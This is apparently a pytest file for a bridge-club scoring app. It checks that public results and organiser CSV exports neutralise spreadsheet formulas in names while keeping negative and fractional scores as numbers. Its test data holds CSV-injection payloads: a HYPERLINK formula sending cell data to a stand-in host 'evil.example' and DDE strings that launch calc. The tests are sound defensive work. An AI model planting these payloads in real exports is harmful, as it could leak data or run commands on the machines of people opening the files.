"""The CSVs (the public results, the organiser's field): a name a spreadsheet would run as a formula
arrives as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.urls import reverse
from security.conftest import published

from scoring.exports import NUMBER, spreadsheet_cell, spreadsheet_number
from scoring.scorers.field import Heat
from tests.sim.examples import NATIONWIDE_TRICKS, split_heats
from tests.sim.test_sim_command import write_heats
from tournaments.models import Club

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_opens_a_formula_is_written_as_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (7, "7"),
        (-3, "-3"),
        (Fraction(-27, 4), "-27/4"),
        ("-3 6/7", "-3 6/7"),
        ("-0 6/7", "-0 6/7"),
        ("-6.7500", "-6.7500"),
        ("56.25", "56.25"),
        (None, ""),
    ],
)
def test_numbers_stay_numbers(value: Any, written: str) -> None:
    assert spreadsheet_cell(value) == written


@pytest.mark.parametrize("value", [Fraction(-27, 7), Fraction(-6, 7), Fraction(-3), Fraction(27, 7)])
def test_an_exact_figure_as_the_csv_writes_it_stays_a_number(value: Fraction) -> None:
    """A negative mixed number ("-3 6/7") is a number to the guard, not a formula."""
    assert spreadsheet_cell(spreadsheet_number(value)) == spreadsheet_number(value)


@pytest.mark.parametrize("text", ["-3 6/7+1", "-3 6/7 ", "-3 /7", "- 6/7", "-3 6/7/1", "-3  6/7"])
def test_a_near_number_is_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


def test_plain_names_are_left_alone() -> None:
    assert spreadsheet_cell("Ann Smith & Bob Jones") == "Ann Smith & Bob Jones"
    assert spreadsheet_cell("N-S") == "N-S"


def test_the_public_csv_neutralises_a_formula_in_a_name(client: Any, club: Club) -> None:
    names = [*FORMULAS, *(f"Member {i}" for i in range(6))]
    session = published(club, names, "Pairs")
    response = client.get(reverse("public:results_csv", args=[club.slug, session.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 6
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                assert column != "names" and NUMBER.fullmatch(cell), (column, cell)
    pair_names = {row["names"] for row in rows}
    assert sum(n.startswith("'") for n in pair_names) >= 3
    assert any(row["total"].startswith("-") for row in rows)  # trick scoring: someone is below average


def test_the_organisers_field_csv_neutralises_a_formula_in_a_club_or_pair(tmp_path: Path) -> None:
    """``manage.py sim score``: a heat's ``[Site]`` and its pair ids are the clubs', written as text."""
    clubs = FORMULAS[:4]
    heats = [
        Heat(name, tuple(replace(x, ns=f"={x.ns}+1", ew=f"@{x.ew}") for x in heat.lines))
        for name, heat in zip(clubs, split_heats(1, NATIONWIDE_TRICKS, len(clubs)), strict=True)
    ]
    out = io.StringIO()
    call_command("sim", "score", "matchpoints", *write_heats(tmp_path, heats), stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 2 * len(NATIONWIDE_TRICKS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
        assert row["club"] in {"'" + c for c in clubs} and row["pair"][:2] in ("'=", "'@")
        assert row["rank"].lstrip("=").isdigit() and row["club_rank"].isdigit()
        assert float(row["percentage"]) >= 0
